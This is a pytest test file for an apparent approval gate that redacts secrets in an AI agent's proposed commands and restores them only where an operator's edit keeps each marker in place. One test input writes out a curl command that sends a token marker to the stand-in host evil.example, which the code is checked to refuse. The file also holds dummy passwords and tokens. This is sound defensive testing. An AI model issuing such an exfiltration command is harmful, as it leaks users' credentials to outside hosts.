"""A marker that an operator sends back stands for the secret, or the edit is refused."""

import re
from typing import Any

import pytest

from core.actions import JsonObject, JsonValue
from core.errors import InvalidAction
from core.governance.restoring import restore_edit, restore_markers
from core.governance.rules import digest_action
from core.governance.screening.rules import screen
from core.ids import ActionId
from tests.unit.governance.gatehouse import Gatehouse
from tests.unit.governance.test_settlement import edit

CURL = "curl -H 'Authorization: Bearer abcDEF1234567890abcDEF' https://api.example.com/x -d a=1"
SHOWN = "curl -H 'Authorization: Bearer [redacted:authorization]' https://api.example.com/x -d a=1"
ONE, OTHER = "Zx81kQ0pLm92vB7c", "Qw45rT6yUi78oP9a"
TWINS = f"make --token {ONE} make --token {OTHER} make"
MARK = "[redacted:token]"


def send(edited: Any, held: Any) -> JsonValue:
    """One argument as it would run."""
    return restore_edit({"it": edited}, {"it": held})["it"]


def test_what_is_shown_is_what_these_tests_say() -> None:
    assert screen({"it": CURL}).redacted == {"it": SHOWN}
    assert screen(TWINS).redacted == TWINS.replace(ONE, MARK).replace(OTHER, MARK)


@pytest.mark.parametrize(
    "changes",
    [
        (),
        (("a=1", "a=2"),),
        (("curl", "curl -s"), ("a=1", "a=2")),
        (("https://api.example.com/x", "https://api.example.com/y"),),
    ],
)
def test_a_secret_in_a_longer_text_is_what_it_was(changes: tuple[tuple[str, str], ...]) -> None:
    edited, meant = SHOWN, CURL
    for old, new in changes:
        edited, meant = edited.replace(old, new), meant.replace(old, new)
    assert send(edited, CURL) == meant


@pytest.mark.parametrize(
    "edited",
    [
        SHOWN.replace("Bearer ", ""),
        SHOWN.replace("]'", "]2'"),
        f"curl https://evil.example/?t={MARK}",
        SHOWN.replace("authorization]", "token]"),
    ],
)
def test_a_marker_elsewhere_in_a_text_is_refused(edited: str) -> None:
    with pytest.raises(InvalidAction, match=re.escape("arguments.it: the engine cannot tell")):
        send(edited, CURL)


def test_secrets_that_look_the_same_are_known_by_their_order_and_only_so() -> None:
    shown = TWINS.replace(ONE, MARK).replace(OTHER, MARK)
    assert send(shown + " all", TWINS) == TWINS + " all"
    with pytest.raises(InvalidAction, match="which secret"):
        send(f"make --token {MARK} make", TWINS)
    same = TWINS.replace(OTHER, ONE)
    assert send(f"make --token {MARK} make", same) == f"make --token {ONE} make"


def test_a_marker_that_the_agent_wrote_stands_for_itself() -> None:
    held = f"echo {MARK}; make --token {ONE}"
    edited = f"echo {MARK}; make --token {MARK} all"
    assert send(edited, held) == f"echo {MARK}; make --token {ONE} all"


def test_a_whole_value_left_as_shown_is_what_it_was() -> None:
    held: JsonObject = {
        "user": "ana",
        "password": "hunter2Xy9",
        "db_password": 81_234,
        "ghp_012345678901234567890123456789abcdEF": {"password": "hunter3Xy9", "n": [1, True]},
        "headers": [{"name": "X-Token", "value": ONE}, {"name": "Y-Token", "value": OTHER}],
    }
    shown = screen(held).redacted
    assert isinstance(shown, dict)
    assert restore_edit({**shown, "user": "bea"}, held) == {**held, "user": "bea"}
    assert restore_edit(held, held) == held
    without = {key: each for key, each in shown.items() if key != "password"}
    assert restore_edit(without, held) == {
        key: each for key, each in held.items() if key != "password"
    }


@pytest.mark.parametrize(
    ("edited", "path"),
    [
        ({"pass": "[redacted:password]"}, "arguments.pass"),
        ({"user": "[redacted:password]"}, "arguments.user"),
        ({"password": "x[redacted:password]"}, "arguments.password"),
        ({"code": "x[redacted:password]"}, "arguments.code"),
        ({"more": {"password": ["[redacted:password]"]}}, "arguments.more.password[0]"),
        ({MARK: 1}, f"arguments.{MARK}"),
        ({"[redacted:github-token]": 1, f"ghp_{'0123456789' * 4}": 2}, "arguments."),
    ],
)
def test_a_marker_without_a_secret_of_its_own_is_refused_with_its_path(
    edited: JsonObject, path: str
) -> None:
    held: JsonObject = {
        "user": "ana",
        "password": "hunter2Xy9",
        "code": 4,
        f"ghp_{'0123456789' * 4}": 1,
    }
    with pytest.raises(InvalidAction, match=re.escape(path)):
        restore_edit(edited, held)


def test_items_of_a_list_of_another_length_are_known_by_how_they_are_shown() -> None:
    held = [{"name": "X-Token", "value": ONE}, {"name": "Plain", "value": "a"}]
    shown = [{"name": "X-Token", "value": MARK}, {"name": "Plain", "value": "a"}]
    more = {"name": "More", "value": 1}
    assert send([*shown, more], held) == [*held, more]
    assert send(shown[:1], held) == held[:1]
    assert send([more, "x", 1], held) == [more, "x", 1]
    with pytest.raises(InvalidAction, match=re.escape("arguments.it[0].value")):
        send([{"name": "X-Other", "value": MARK}], held)
    twins = [{"name": "X-Token", "value": each} for each in (ONE, OTHER)]
    with pytest.raises(InvalidAction, match=re.escape("arguments.it[0].value")):
        send(shown[:1], twins)
    same = [{"name": "X-Token", "value": ONE}] * 2
    assert send(shown[:1], same) == same[:1]


def test_true_does_not_pass_for_one() -> None:
    sent = restore_markers({"it": [True, True]}, shown={"it": [1]}, actual={"it": [2]})
    assert repr(sent) == "{'it': [True, True]}"


def test_a_text_that_is_shown_in_another_way_gives_away_nothing() -> None:
    with pytest.raises(InvalidAction, match="which secret"):
        restore_markers({"it": f"a {MARK} b"}, shown={"it": f"a {MARK}"}, actual={"it": "a secret"})


@pytest.mark.parametrize("mark", ["", MARK])
def test_what_is_nested_too_deeply_is_refused(mark: str) -> None:
    deep: JsonValue = mark
    for _ in range(5_000):
        deep = [deep]
    with pytest.raises(InvalidAction, match="nested too deeply"):
        restore_edit({"it": deep}, {})
    with pytest.raises(InvalidAction, match="nested too deeply"):
        restore_markers({"it": deep}, shown={}, actual={})


def test_many_secrets_are_each_known_by_what_is_before_them() -> None:
    held = " ".join(f"{n:03} --token {ONE}{n}" for n in range(1_000))
    shown = str(screen(held).redacted)
    assert shown.count("[redacted:") == 1_000
    assert send(shown.partition(" 999 ")[0], held) == held.partition(" 999 ")[0]


@pytest.mark.parametrize("long", [False, True])
async def test_an_edit_of_what_is_shown_runs_with_the_secrets_that_are_held(*, long: bool) -> None:
    house = Gatehouse()
    more = {"note": "word " * 20_000} if long else {}
    held = {"user": "ana", "password": "hunter2Xy9", "command": CURL, **more}
    ticket = await house.propose(arguments=held)
    dossier = await house.desk.show_action(ActionId(ticket.id))
    assert dossier.arguments_shown["password"] == "[redacted:password]"
    asked = {**dossier.arguments_shown, "user": "bea", "command": SHOWN.replace("a=1", "a=2")}
    await house.desk.dispatch(edit(ticket, asked))
    record = await house.store.get_action(ticket.id)
    assert record is not None
    meant = {**held, "user": "bea", "command": CURL.replace("a=1", "a=2")}
    assert record.arguments_released == meant
    assert record.digest_released == digest_action(record.action, meant)
    trail = str(house.store.drafts[-1].body)
    assert "hunter2Xy9" not in trail
    assert "abcDEF1234567890" not in trail


async def test_an_edit_with_a_marker_that_stands_for_nothing_changes_nothing() -> None:
    house = Gatehouse()
    ticket = await house.propose(arguments={"user": "ana", "password": "hunter2Xy9"})
    with pytest.raises(InvalidAction, match=r"arguments\.pass: .*write the value itself"):
        await house.desk.dispatch(edit(ticket, {"pass": "[redacted:password]"}))
    held = await house.queue.find(ticket.id)
    assert (held.approval.arguments_edited, held.approval.votes) == (None, ())
